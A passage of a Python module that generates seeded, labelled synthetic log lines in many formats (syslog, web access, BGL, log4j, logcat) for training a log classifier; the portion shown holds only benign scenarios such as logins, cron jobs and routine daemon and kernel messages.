"""Seeded scenario generator: realistic labelled log lines in the formats the parser reads.

Each scenario is a small function that draws hosts, users, addresses, ports, paths and
timestamps from a seeded :class:`random.Random` and returns one raw line. Malicious and
faulty scenarios have benign look-alikes in the same format (accepted logins beside failed
ones, normal requests beside attack payloads, routine cron beside download-and-run) so a
model has to learn the meaning of a line, not its format. Same seed, same lines.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TypeVar

import orjson

from classifiers.logs.payloads import attack_path, benign_path
from classifiers.logs.taxonomy import LABELS

T = TypeVar("T")

HOSTS = (
    "web-01",
    "web-02",
    "db-prod-3",
    "bastion",
    "api-gw-7",
    "build-runner-2",
    "mail01",
    "k8s-node-14",
    "fileserver",
    "vpn-edge",
    "LabSZ",
    "combo",
    "ip-10-0-3-21",
)
USERS = (
    "root",
    "admin",
    "deploy",
    "alice",
    "bob",
    "carol",
    "dave",
    "ubuntu",
    "oracle",
    "git",
    "postgres",
    "jenkins",
    "test",
    "guest",
    "support",
    "www-data",
    "backup",
    "pi",
    "user1",
)
PROGRAMS_OK = ("nginx", "postgres", "redis-server", "java", "python3", "node", "dockerd")
SERVICES = (
    "nginx",
    "postgresql",
    "redis",
    "docker",
    "kubelet",
    "cron",
    "sshd",
    "rsyslog",
    "elasticsearch",
    "payments-api",
    "grafana-server",
    "haproxy",
)
DISKS = ("sda", "sdb", "nvme0n1", "sdc", "md0", "xvda")
IFACES = ("eth0", "eth1", "ens3", "eno1", "bond0", "enp0s31f6")
WEB_PATHS = (
    "/",
    "/index.html",
    "/login",
    "/api/v1/orders",
    "/static/app.js",
    "/img/logo.png",
    "/products?id=42",
    "/search?q=blue+shoes",
    "/account/settings",
    "/health",
    "/api/v2/users/1183",
    "/blog/2024/03/release-notes",
    "/favicon.ico",
    "/cart",
)
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) Safari/605.1.15",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
SCANNER_AGENTS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x",
    "Nmap Scripting Engine",
    "WPScan v3.8.24",
)
JAVA_CLASSES = (
    "com.acme.orders.OrderService",
    "org.apache.kafka.clients.NetworkClient",
    "com.acme.billing.InvoiceJob",
    "org.springframework.web.servlet.DispatcherServlet",
)
THREADS = (
    "main",
    "pool-3-thread-2",
    "SyncThread:0",
    "worker-12",
    "Timer-0",
    "NIOServerCxn.Factory",
    "scheduler-4",
    "listener-1",
)
SHORT_CLASSES = (
    "QueueWorker",
    "SessionTracker",
    "CacheManager",
    "Scheduler",
    "ConnectionPool",
    "MetricsReporter",
    "LeaderElector",
    "ConfigLoader",
    "HealthCheck",
    "BatchWriter",
)
BGL_NODES = (
    "R02-M1-N0-C:J12-U11",
    "R30-M0-N9-C:J16-U01",
    "R24-M0-N1-C:J13-U11",
    "R63-M0-L0-U11-A",
    "R17-M1-NF-I:J18-U01",
    "R45-M1-N4-C:J08-U01",
)


@dataclass(frozen=True)
class GeneratedLine:
    """A raw log line and the label it was generated for."""

    text: str
    label: str
    scenario: str


class _Draw:
    """Random field values for one line, all from one seeded generator."""

    def __init__(self, rng: random.Random, start: datetime) -> None:
        self.rng = rng
        self.now = start

    def tick(self) -> datetime:
        self.now += timedelta(seconds=self.rng.expovariate(1 / 20))
        return self.now

    def pick(self, options: Sequence[T]) -> T:
        return self.rng.choice(options)

    def public_ip(self) -> str:
        r = self.rng
        return (
            f"{r.choice((45, 61, 103, 185, 193, 203, 218, 91, 5))}.{r.randint(1, 254)}."
            f"{r.randint(0, 254)}.{r.randint(1, 254)}"
        )

    def private_ip(self) -> str:
        r = self.rng
        return r.choice(
            (
                f"10.{r.randint(0, 20)}.{r.randint(0, 254)}.{r.randint(2, 254)}",
                f"192.168.{r.randint(0, 9)}.{r.randint(2, 254)}",
            )
        )

    def any_ip(self) -> str:
        return self.public_ip() if self.rng.random() < 0.5 else self.private_ip()

    def port(self) -> int:
        return self.rng.randint(1024, 65535)

    def pid(self) -> int:
        return self.rng.randint(200, 65000)

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def syslog(self, program: str, message: str, pid: bool = True) -> str:
        t = self.tick()
        tag = f"{program}[{self.pid()}]" if pid else program
        return f"{t:%b} {t.day:2d} {t:%H:%M:%S} {self.pick(HOSTS)} {tag}: {message}"

    def access(self, ip: str, method: str, path: str, status: int, agent: str) -> str:
        t = self.tick()
        size = 0 if status in (301, 304, 404, 403) else self.rng.randint(120, 48000)
        ref = self.rng.choice(("-", "https://www.example.com/", "https://shop.example.org/cart"))
        return (
            f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" '
            f'{status} {size} "{ref}" "{agent}"'
        )

    def bgl(self, component: str, level: str, message: str) -> str:
        t = self.tick()
        node = self.pick(BGL_NODES)
        return (
            f"- {int(t.timestamp())} {t:%Y.%m.%d} {node} {t:%Y-%m-%d-%H.%M.%S}."
            f"{t.microsecond:06d} {node} RAS {component} {level} {message}"
        )

    def app(self, level: str, message: str) -> str:
        t = self.tick()
        thread = self.rng.choice(("main", "http-nio-8080-exec-3", "worker-7", "scheduler-1"))
        return (
            f"{t:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d} {level} [{thread}] "
            f"{self.pick(JAVA_CLASSES)}: {message}"
        )

    def json_line(self, level: str, message: str, service: str) -> str:
        t = self.tick()
        return orjson.dumps(
            {
                "timestamp": t.isoformat(),
                "level": level,
                "service": service,
                "host": self.pick(HOSTS),
                "message": message,
            }
        ).decode()

    def log4j(self, level: str, message: str) -> str:
        """``date - LEVEL [thread:Class@line] - message`` (a common log4j pattern)."""
        t = self.tick()
        return (
            f"{t:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d} - {level:5s} "
            f"[{self.pick(THREADS)}:{self.pick(SHORT_CLASSES)}@{self.rng.randint(40, 900)}] "
            f"- {message}"
        )

    def logcat(self, level: str, tag: str, message: str) -> str:
        """Android ``logcat -v threadtime``."""
        t = self.tick()
        return (
            f"{t:%m-%d %H:%M:%S}.{t.microsecond // 1000:03d} {self.pid():5d} "
            f"{self.pid():5d} {level} {tag}: {message}"
        )

    def pipe(self, component: str, message: str) -> str:
        """``yyyymmdd-HH:MM:SS:mmm|component|pid|message`` (mobile app logs)."""
        t = self.tick()
        return (
            f"{t:%Y%m%d-%H:%M:%S}:{t.microsecond // 1000}|{component}|"
            f"{self.rng.randint(10**7, 10**8)}|{message}"
        )

    def apache_error(self, level: str, message: str) -> str:
        t = self.tick()
        return f"[{t:%a %b %d %H:%M:%S %Y}] [{level}] {message}"

    def spark(self, level: str, component: str, message: str) -> str:
        t = self.tick()
        return f"{t:%y/%m/%d %H:%M:%S} {level} {component}: {message}"


Scenario = Callable[[_Draw], str]


def _ssh_accepted(d: _Draw) -> str:
    how = d.pick(("password", "publickey"))
    return d.syslog(
        "sshd", f"Accepted {how} for {d.pick(USERS)} from {d.any_ip()} port {d.port()} ssh2"
    )


def _ssh_session(d: _Draw) -> str:
    user = d.pick(USERS)
    return d.pick(
        (
            d.syslog("sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
            d.syslog("sshd", f"pam_unix(sshd:session): session closed for user {user}"),
            d.syslog(
                "sshd",
                f"Received disconnect from {d.any_ip()} port {d.port()}:11: disconnected by user",
            ),
            d.syslog("sshd", f"Disconnected from user {user} {d.any_ip()} port {d.port()}"),
        )
    )


def _cron(d: _Draw) -> str:
    cmd = d.pick(
        (
            "run-parts /etc/cron.hourly",
            "/usr/local/bin/backup.sh --daily",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "/usr/bin/certbot renew --quiet",
            "php /var/www/app/artisan schedule:run",
            "curl -fsS https://hc-ping.com/4f1e-status > /dev/null",
        )
    )
    return d.syslog("CRON", f"({d.pick(USERS)}) CMD ({cmd})")


def _sudo_ok(d: _Draw) -> str:
    user = d.pick(USERS)
    cmd = d.pick(
        (
            "/usr/bin/apt-get update",
            "/bin/systemctl restart nginx",
            "/usr/bin/journalctl -u kubelet",
            "/usr/bin/docker ps",
            "/bin/cat /var/log/syslog",
            "/usr/bin/tail -f /var/log/nginx/access.log",
        )
    )
    return d.syslog(
        "sudo",
        f"{user} : TTY=pts/{d.rng.randint(0, 9)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
        pid=False,
    )


def _web_ok(d: _Draw) -> str:
    method = d.pick(("GET", "GET", "GET", "POST", "HEAD"))
    status = d.rng.choice((200, 200, 200, 200, 301, 304, 404))
    path = d.pick(WEB_PATHS) if d.rng.random() < 0.5 else benign_path(d.rng)
    return d.access(d.any_ip(), method, path, status, d.pick(USER_AGENTS))


def _systemd_ok(d: _Draw) -> str:
    svc = d.pick(SERVICES)
    return d.pick(
        (
            d.syslog("systemd", f"Started {svc}.service.", pid=False),
            d.syslog("systemd", f"Starting {svc}.service...", pid=False),
            d.syslog("systemd", f"Reloaded {svc}.service.", pid=False),
            d.syslog("systemd", f"{svc}.service: Succeeded.", pid=False),
            d.syslog("systemd", f"Stopped {svc}.service.", pid=False),
        )
    )


def _kernel_ok(d: _Draw) -> str:
    ts = f"[{d.rng.uniform(1, 99999):.6f}]"
    return d.pick(
        (
            d.syslog(
                "kernel",
                f"{ts} {d.pick(IFACES)}: NIC Link is Up 1000 Mbps Full Duplex, Flow Control: RX/TX",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"{ts} EXT4-fs ({d.pick(DISKS)}1): mounted filesystem "
                "with ordered data mode. Opts: (null)",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"{ts} usb 1-1: new high-speed USB device number "
                f"{d.rng.randint(2, 9)} using xhci_hcd",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"{ts} [UFW BLOCK] IN={d.pick(IFACES)} OUT= "
                f"SRC={d.public_ip()} DST={d.private_ip()} PROTO=UDP "
                f"SPT={d.port()} DPT=137",
                pid=False,
            ),
        )
    )


def _app_ok(d: _Draw) -> str:
    msg = d.pick(
        (
            f"Processed order {d.rng.randint(1000, 99999)} in {d.rng.randint(3, 900)} ms",
            f"Connected to postgres at {d.private_ip()}:5432",
            f"Cache warmed with {d.rng.randint(10, 9000)} entries",
            "Scheduled job InvoiceJob finished successfully",
            f"GET /api/v1/orders/{d.rng.randint(1, 9999)} completed with 200",
        )
    )
    if d.rng.random() < 0.5:
        return d.app("INFO", msg)
    return d.json_line("info", msg, d.pick(("payments-api", "checkout", "auth-service")))


def _bgl_ok(d: _Draw) -> str:
    return d.pick(
        (
            d.bgl("KERNEL", "INFO", "instruction cache parity error corrected"),
            d.bgl("KERNEL", "INFO", f"{d.rng.randint(1, 900)} double-hummer alignment exceptions"),
            d.bgl("KERNEL", "INFO", f"generating core.{d.rng.randint(1, 9999)}"),
            d.bgl(
                "KERNEL",
                "INFO",
                f"CE sym {d.rng.randint(0, 31)}, at 0x{d.hexs(8)}, mask 0x{d.hexs(2)}",
            ),
            d.bgl("APP", "INFO", "ciod: Message code 0 is not 51 or 4294967295"),
            # BGL prints register dumps at FATAL level around benign core dumps.
            d.bgl("KERNEL", "FATAL", f"instruction address: 0x{d.hexs(8)}"),
        )
    )


def _useradd_ok_lookalike(d: _Draw) -> str:
    user = d.pick(USERS)
    return d.syslog("passwd", f"pam_unix(passwd:chauthtok): password for {user} unchanged")


def _n(d: _Draw, low: int = 1, high: int = 9999) -> int:
    return d.rng.randint(low, high)


def _rdns(d: _Draw) -> str:
    """A reverse-DNS host name as ISPs assign them."""
    a, b = d.rng.randint(1, 254), d.rng.randint(1, 254)
    return d.pick(
        (
            f"{a}-{b}-{_n(d, 1, 254)}-{_n(d, 1, 254)}.dsl.example-isp.net",
            f"host{a}.{b}.pool.broadband.example.com",
            f"adsl-{a}-{b}.static.example.org",
            "mail.example.com",
        )
    )


def _routine_info(d: _Draw) -> str:
    """Application INFO chatter: lifecycle, progress, housekeeping."""
    return d.pick(
        (
            f"Started {d.pick(SHORT_CLASSES)} in {d.rng.uniform(0.5, 30):.3f} seconds",
            f"Flushed {_n(d)} records to segment {_n(d)} in {_n(d, 1, 900)} ms",
            f"Checkpoint {_n(d)} completed, {_n(d)} entries written",
            f"Accepted connection from /{d.private_ip()}:{d.port()}",
            f"Closed connection from /{d.private_ip()}:{d.port()} "
            f"which had sessionid 0x{d.hexs(15)}",
            f"Session 0x{d.hexs(15)} established with negotiated timeout {_n(d, 5, 40)}000",
            f"Leader election completed: this node is {d.pick(('FOLLOWING', 'LEADING'))}",
            f"Received notification: leader={_n(d, 1, 5)} epoch=0x{d.hexs(2)} state=LOOKING",
            f"Snapshotting: 0x{d.hexs(9)} to /var/lib/app/snapshot.{d.hexs(9)}",
            f"Rolling log file to log.{d.hexs(9)}",
            f"Registered {_n(d, 1, 40)} handlers for /api/v{_n(d, 1, 3)}",
            f"Loaded configuration from /etc/{d.pick(SERVICES)}/config.yaml",
            f"Task {_n(d)} finished in {_n(d, 1, 5000)} ms on executor {_n(d, 1, 32)}",
            f"Shuffle of stage {_n(d, 1, 99)} done: {_n(d)} blocks fetched",
            f"Registering block manager {d.private_ip()}:{d.port()} with 4.2 GB RAM",
            "Shutdown hook called, releasing resources",
            f"Health check passed ({_n(d, 1, 30)} checks, 0 errors)",
            f"Error count reset to 0 after {_n(d, 1, 60)} healthy probes",
            f"Configuration parsed with 0 errors and {_n(d, 0, 9)} warnings",
            f"Retry {_n(d, 1, 3)} of request {d.hexs(8)} succeeded",
            f"Worker {_n(d, 1, 64)} recovered from error state after reset",
            f"Transaction {d.hexs(10)} rolled back at client request",
            f"Cleaned up {_n(d)} expired sessions",
            f"Scheduled backup job finished: {_n(d)} files, 0 failed",
        )
    )


def _routine_warn(d: _Draw) -> str:
    """Warnings that ops read past: slow or deprecated things, idle timeouts, optional parts
    missing, threads stopping on purpose, recoverable retries."""
    return d.pick(
        (
            f"Slow query took {_n(d, 1000, 9000)} ms: SELECT * FROM orders WHERE id = ?",
            f"Property '{d.pick(('db.url', 'cache.size', 'http.port'))}' is deprecated, "
            "use the new key instead",
            f"Session 0x{d.hexs(15)} expired after {_n(d, 30, 600)} s of inactivity, closing",
            f"Client /{d.private_ip()}:{d.port()} closed the connection, cleaning up session",
            f"Worker thread {d.pick(THREADS)} interrupted while idle, shutting down",
            f"Thread {d.pick(THREADS)} exiting: work queue drained",
            f"Stopping {d.pick(SHORT_CLASSES)} worker on request",
            f"Could not find optional file /etc/app/{d.pick(('overrides', 'local'))}.conf, "
            "using defaults",
            f"Failed to load optional plugin '{d.pick(('metrics-jmx', 'geoip', 'ldap-sync'))}',"
            " continuing without it",
            f"Validation failed for field 'email' in request {d.hexs(8)}, returning 400",
            f"Cache miss ratio {_n(d, 10, 40)}% above {_n(d, 5, 10)}% target",
            f"Heap usage at {_n(d, 60, 80)}% after GC, still below the limit",
            f"GC pause of {_n(d, 200, 900)} ms",
            f"Request {d.hexs(8)} took {_n(d, 2, 9)}.{_n(d, 0, 9)} s, over the 2 s budget",
            f"Unknown property '{d.pick(('foo.bar', 'legacy.mode'))}' ignored",
            f"Skipping unreadable cache file /tmp/cache/{d.hexs(8)}, it will be rebuilt",
            f"Lease renewal for {d.hexs(8)} took {_n(d, 100, 900)} ms",
            f"Retrying request {d.hexs(8)} (attempt 1 of 3)",
            "Received SIGTERM, finishing in-flight requests before exit",
            f"Using default value {_n(d, 1, 100)} for max.poll.records",
            f"Queue {d.pick(('events', 'mail', 'jobs'))} length {_n(d, 100, 900)}, "
            "consumer lagging",
        )
    )


def _app_chatter(d: _Draw) -> str:
    """Routine INFO/WARN/DEBUG lines in the Java, log4j, Spark and JSON formats."""
    level = d.rng.choices(("INFO", "WARN", "DEBUG"), (5, 3, 1))[0]
    message = _routine_warn(d) if level == "WARN" else _routine_info(d)
    form = d.rng.random()
    if form < 0.3:
        return d.app(level, message)
    if form < 0.6:
        return d.log4j(level, message)
    if form < 0.8:
        return d.spark(
            level,
            f"{d.pick(('storage', 'scheduler', 'executor'))}.{d.pick(SHORT_CLASSES)}",
            message,
        )
    return d.json_line(
        level.lower(), message, d.pick(("payments-api", "checkout", "search", "worker"))
    )


def _numbers(d: _Draw, count: int, high: int = 9999) -> str:
    return " ".join(str(d.rng.randint(0, high)) for _ in range(count))


def _numeric_status(d: _Draw) -> str:
    """Status lines that are mostly numbers (counters, sensor readings, progress): the bare
    access-log shape ``<NUM> <NUM>`` must not read as a web request, let alone an attack."""
    k = d.rng.randint(2, 6)
    message = d.pick(
        (
            f"load average: {d.rng.uniform(0, 4):.2f} {d.rng.uniform(0, 4):.2f} "
            f"{d.rng.uniform(0, 4):.2f}",
            f"cpu {_numbers(d, k, 100)}",
            f"fan speeds {_numbers(d, k, 9000)} rpm",
            f"temperatures ( {_numbers(d, k, 90)} ) C",
            f"rx {_numbers(d, 2, 10**7)} tx {_numbers(d, 2, 10**7)}",
            f"progress {_n(d, 0, 500)} / {_n(d, 500, 5000)} ( {_n(d, 0, 100)} % )",
            f"window [{_n(d)}, {_n(d)}] count {_n(d, 0, 99)} sum {_n(d)}",
            f"latency p50 {_n(d, 1, 50)} p99 {_n(d, 50, 900)} ms",
            f"stats {_numbers(d, k)}",
            f"summary {_numbers(d, k, 500)}",
            f"counters {_numbers(d, k)} ok",
            _numbers(d, k, 99999),
        )
    )
    form = d.rng.random()
    if form < 0.25:
        return d.syslog(d.pick(("collectd", "sensord", "vnstatd", "sysstat", "telegraf")), message)
    if form < 0.5:
        return d.app("INFO", message)
    if form < 0.65:
        return d.log4j(d.pick(("INFO", "DEBUG")), message)
    if form < 0.8:
        return d.pipe(d.pick(("StatsReporter", "Pedometer", "DailyReport", "SensorHub")), message)
    if form < 0.9:
        return d.logcat(
            d.pick(("D", "I", "V")), d.pick(("MemInfo", "BatteryStats", "Sensors")), message
        )
    return d.bgl("KERNEL", "INFO", message)


def _kernel_chatter(d: _Draw) -> str:
    """Kernel boot, power, driver and network-interface messages that mean nothing is wrong."""
    ts = f"[{d.rng.uniform(0, 99999):.6f}]"
    iface = d.pick((*IFACES, "wlan0", "en0", "docker0"))
    msg = d.pick(
        (
            f"Initializing cgroup subsys {d.pick(('cpuset', 'cpu', 'cpuacct', 'memory'))}",
            f"Linux version {_n(d, 3, 6)}.{_n(d, 0, 19)}.0-{_n(d, 1, 120)}-generic (buildd@lcy02)",
            "Command line: BOOT_IMAGE=/vmlinuz root=UUID=x ro quiet splash",
            f"Memory: {_n(d, 10**6, 10**7)}k/{_n(d, 10**7, 2 * 10**7)}k available",
            f"BIOS-e820: {d.hexs(16)} - {d.hexs(16)} (usable)",
            f"ACPI: PM-Timer IO Port: 0x{d.hexs(3)}",
            "random: crng init done",
            f"{iface}: link becomes ready",
            f"IPv6: ADDRCONF(NETDEV_UP): {iface}: link is not ready",
            f"{iface}: authenticate with {d.hexs(2)}:{d.hexs(2)}:{d.hexs(2)}:{d.hexs(2)}",
            f"{iface}: associated",
            f"{iface}: roamed to a new access point, channel {_n(d, 1, 140)}",
            f"device veth{d.hexs(7)} entered promiscuous mode",
            f"docker0: port {_n(d, 1, 9)}(veth{d.hexs(7)}) entered forwarding state",
            f"perf: interrupt took too long ({_n(d, 2501, 9000)} > 2500), lowering "
            f"kernel.perf_event_max_sample_rate to {_n(d, 20000, 80000)}",
            f"EXT4-fs ({d.pick(DISKS)}1): re-mounted. Opts: errors=remount-ro",
            f"Adding {_n(d, 10**5, 10**7)}k swap on /swapfile.  Priority:-2 extents:1",
            "PM: suspend entry (deep)",
            "PM: suspend exit",
            f"smpboot: CPU {_n(d, 1, 15)} is now offline",
            f"IOPMrootDomain: system wake completed in {_n(d, 100, 2000)} ms",
            f"IOPMrootDomain: idle sleep timer set to {_n(d, 1, 30)} min",
            f'audit: type=1400 audit({_n(d)}.{_n(d, 100, 999)}:{_n(d)}): apparmor="STATUS" '
            f'operation="profile_load" name="/usr/sbin/{d.pick(("cupsd", "tcpdump", "ntpd"))}"',
            "nf_conntrack: default automatic helper assignment has been turned off",
            f"usb {_n(d, 1, 4)}-{_n(d, 1, 4)}: USB disconnect, device number {_n(d, 1, 20)}",
            f"Bluetooth: hci0: command 0x{d.hexs(4)} tx timeout, retrying",
        )
    )
    if d.rng.random() < 0.5:
        return d.syslog("kernel", f"{ts} {msg}", pid=False)
    return d.syslog("kernel", msg)


def _daemon_chatter(d: _Draw) -> str:
    """System daemons doing their normal work, some with words like error/failed/denied in a
    harmless context."""
    iface, ip = d.pick(IFACES), d.private_ip()
    program, message = d.pick(
        (
            ("dhclient", f"DHCPREQUEST on {iface} to {ip} port 67"),
            ("dhclient", f"DHCPACK from {ip}"),
            ("dhclient", f"bound to {d.private_ip()} -- renewal in {_n(d, 600, 86400)} seconds."),
            ("ntpd", f"synchronized to {ip}, stratum {_n(d, 1, 4)}"),
            ("chronyd", f"Selected source {ip}"),
            ("avahi-daemon", f"Registering new address record for {ip} on {iface}.IPv4."),
            ("NetworkManager", f"<info>  device ({iface}): state change: config -> ip-config"),
            ("dbus-daemon", "[system] Successfully activated service 'org.freedesktop.hostname1'"),
            ("rsyslogd", '[origin software="rsyslogd" swVersion="8.2112.0"] start'),
            ("xinetd", f"START: ftp pid={d.pid()} from={ip}"),
            ("xinetd", f"EXIT: ftp status=0 pid={d.pid()} duration={_n(d, 1, 99)}(sec)"),
            ("postfix/smtpd", f"connect from {_rdns(d)}[{ip}]"),
            ("vsftpd", f'CONNECT: Client "{d.any_ip()}"'),
            ("proftpd", f"{d.pick(HOSTS)} ({_rdns(d)}[{ip}]) - FTP session opened."),
            ("in.identd", f"connection from {d.any_ip()} ({_rdns(d)})"),
            ("postfix/smtpd", f"disconnect from mail.example.com[{ip}] ehlo=1 mail=1 quit=1"),
            ("dovecot", f"imap-login: Login: user=<{d.pick(USERS)}>, method=PLAIN, rip={ip}"),
            ("named", f"client {ip}#{d.port()}: query: example.com IN A + ({ip})"),
            (
                "smartd",
                f"Device: /dev/{d.pick(DISKS)} [SAT], SMART Usage Attribute: 194 "
                f"Temperature_Celsius changed from {_n(d, 30, 40)} to {_n(d, 30, 41)}",
            ),
            ("smartd", f"Device: /dev/{d.pick(DISKS)}, opened"),
            ("fsck", f"/dev/{d.pick(DISKS)}1: clean, {_n(d)}/{_n(d, 10**4, 10**6)} files"),
            ("anacron", "Job `cron.daily' terminated"),
            ("logrotate", f"rotating log /var/log/{d.pick(SERVICES)}.log, 0 errors"),
            ("su", f"(to root) {d.pick(USERS)} on pts/{_n(d, 0, 9)}"),
            (
                "su",
                "pam_unix(su:session): session opened for user root by "
                f"{d.pick(USERS)}(uid={_n(d, 1000, 1010)})",
            ),
            ("CRON", "pam_unix(cron:session): session opened for user root by (uid=0)"),
            ("CRON", "pam_unix(cron:session): session closed for user root"),
            ("sshd", "Server listening on 0.0.0.0 port 22."),
            ("sshd", "Received signal 15; terminating."),
            (
                "kubelet",
                f"I0303 10:00:{_n(d, 10, 59)} {d.pid()} kuberuntime_manager.go:{_n(d, 100, 999)}] "
                'Successfully pulled image "nginx:1.25"',
            ),
            ("containerd", f"shim disconnected id={d.hexs(12)} namespace=moby"),
            ("snapd", "autorefresh.go:540: auto-refresh: all snaps are up-to-date"),
            ("bluetoothd", "Endpoint registered: sender=:1.57 path=/MediaEndpoint/A2DPSource"),
            ("cupsd", "Expiring subscriptions..."),
            ("polkitd", f"Registered Authentication Agent for unix-session:{_n(d, 1, 9)}"),
            (
                "mDNSResponder",
                f"mDNS_RegisterInterface: Frequent transitions for interface {iface}",
            ),
            ("locationd", f"client authorization changed for com.example.app{_n(d, 1, 9)}"),
            ("powerd", f"Sleep assertion released by pid {d.pid()} after {_n(d, 1, 600)} s"),
            (
                "sandboxd",
                f"mdworker({d.pid()}) deny file-read-data /Users/{d.pick(USERS)}/Library/Caches",
            ),
            (
                "com.apple.xpc.launchd",
                f"(com.apple.{d.pick(('quicklook', 'mdworker', 'photoanalysisd'))}): "
                "Service only ran for 0 seconds. Pushing respawn out by 10 seconds.",
            ),
            ("symptomsd", "NetworkAnalyticsEngine: observed interface change, refreshing"),
            ("sharingd", "Scanning mode Contacts Only"),
            ("WindowServer", "CGXDisplayDidWakeNotification: display wake complete"),
            ("GoogleSoftwareUpdateAgent", "Checking for updates: 0 errors"),
            ("upsd", "UPS [ups1] on line power"),
            ("sensord", f"temp1: +{_n(d, 30, 60)}.0 C (OK)"),
        )
    )
    return d.syslog(program, message)


def _apache_notice(d: _Draw) -> str:
    """Apache error-log lines that are not errors: start-up, restarts, housekeeping, 404s."""
    return d.pick(
        (
            d.apache_error(
                "notice",
                f"Apache/2.{_n(d, 2, 4)}.{_n(d, 1, 58)} (Unix) configured -- "
                "resuming normal operations",
            ),
            d.apache_error("notice", "caught SIGTERM, shutting down"),
            d.apache_error("notice", "Graceful restart requested, doing restart"),
            d.apache_error("notice", "Digest: generating secret for digest authentication ..."),
            d.apache_error("notice", "Digest: done"),
            d.apache_error("notice", "suEXEC mechanism enabled (wrapper: /usr/sbin/suexec)"),
            d.apache_error("notice", f"mpm_prefork: spawned {_n(d, 2, 16)} children"),
            d.apache_error(
                "info",
                "server seems busy, (you may need to increase StartServers, or "
                f"Min/MaxSpareServers), spawning {_n(d, 2, 32)} children, there are 0 idle, "
                f"and {_n(d, 10, 99)} total children",
            ),
            d.apache_error(
                "warn",
                "RSA server certificate CommonName (CN) `localhost' does NOT match server name!?",
            ),
            d.apache_error(
                "error", f"[client {d.any_ip()}] File does not exist: /var/www/html/favicon.ico"
            ),
            d.apache_error(
                "error",
                f"[client {d.any_ip()}] Directory index forbidden by rule: "
                f"/var/www/html/{d.pick(('icons', 'static'))}/",
            ),
            d.apache_error(
                "notice", f"child pid {d.pid()} exit signal Terminated (15), graceful stop"
            ),
            d.apache_error("notice", f"worker {_n(d, 1, 64)} in idle state, returned to the pool"),
        )
    )


def _mobile_chatter(d: _Draw) -> str:
    """Phone and health-app logs: sensors, step counters, sync, UI and power management."""
    if d.rng.random() < 0.5:
        component, message = d.pick(
            (
                ("StepCounter", f"totalSteps={_n(d, 0, 30000)} delta={_n(d, 0, 60)}"),
                ("Pedometer", f"onStepsChanged {_n(d, 0, 30000)}"),
                ("StepSync", f"upload finished, records={_n(d, 1, 99)} cost={_n(d, 5, 900)}ms"),
                ("HeartRate", f"sample bpm={_n(d, 50, 130)} quality=good"),
                ("SleepTracker", f"stage changed to {d.pick(('LIGHT', 'DEEP', 'REM', 'AWAKE'))}"),
                ("BatteryMonitor", f"level={_n(d, 5, 100)} charging={d.pick(('true', 'false'))}"),
                ("SensorManager", f"registerListener type={_n(d, 1, 30)} success"),
                ("DataCache", f"flush {_n(d, 1, 500)} records in {_n(d, 1, 90)} ms"),
                ("ScreenListener", f"screen {d.pick(('on', 'off'))}"),
                ("SyncService", "sync skipped: device offline, will retry later"),
                ("DailyReport", f"calories={_n(d, 0, 3000)} distance={_n(d, 0, 20000)}m"),
                ("AlarmScheduler", f"next alarm at {_n(d, 10**12, 2 * 10**12)}"),
            )
        )
        return d.pipe(component, message)
    level, tag, message = d.pick(
        (
            ("D", "PowerManagerService", f"Waking up from sleep (uid {_n(d, 1000, 10999)})..."),
            (
                "I",
                "ActivityManager",
                f"Displayed com.example.app/.MainActivity: +{_n(d, 50, 900)}ms",
            ),
            (
                "I",
                "ActivityManager",
                f"Start proc {d.pid()}:com.example.sync/u0a{_n(d, 10, 200)} for service",
            ),
            (
                "D",
                "WindowManager",
                f"Changing focus from Window{{{d.hexs(7)}}} to Window{{{d.hexs(7)}}}",
            ),
            ("V", "AlarmManager", f"set alarm type=2 when={_n(d, 10**6, 10**8)}"),
            ("I", "BatteryService", f"level={_n(d, 1, 100)} status=2 health=2"),
            ("D", "wpa_supplicant", "wlan0: CTRL-EVENT-SCAN-STARTED"),
            (
                "W",
                "ActivityManager",
                f"Slow operation: {_n(d, 50, 900)}ms so far, now at startProcess",
            ),
            (
                "W",
                "System",
                "ClassLoader referenced unknown path: /data/app/com.example.app-1/lib/arm64",
            ),
            (
                "W",
                "ResourceType",
                f"Failure getting entry for 0x7f0{d.hexs(5)} (t=9 e={_n(d, 1, 99)}) "
                "in package 0 (error -75)",
            ),
            (
                "W",
                "Looper",
                f"Slow dispatch took {_n(d, 100, 900)}ms main h=android.app.ActivityThread$H",
            ),
            ("W", "ContextImpl", "Calling a method in the system process without a qualified user"),
            (
                "W",
                "ActivityManager",
                "Permission Denial: broadcast from android asks to run as user -1 "
                "but is calling from user 0",
            ),
            ("W", "InputMethodManagerService", "Focus gain on non-focused client"),
            ("E", "ViewRootImpl", "sendUserActionEvent() mView == null"),
            (
                "I",
                "chatty",
                f"uid={_n(d, 1000, 10999)} system_server identical {_n(d, 1, 40)} lines",
            ),
        )
    )
    return d.logcat(level, tag, message)


MAC_APPS = (
    "Microsoft Outlook",
    "Google Chrome Helper",
    "Slack Helper",
    "zoom.us",
    "Spotify",
    "Mail",
    "Calendar",
    "photoanalysisd",
    "cloudd",
    "accountsd",
    "nsurlsessiond",
    "CommCenter",
)
LINUX_DESKTOP_APPS = ("gnome-shell", "firefox", "chrome", "tracker-miner-fs", "evolution")
NS_ERRORS = (
    ("NSCocoaErrorDomain", 4, "The file doesn’t exist."),
    ("NSCocoaErrorDomain", 4099, "Couldn’t communicate with a helper application."),
    (
        "NSCocoaErrorDomain",
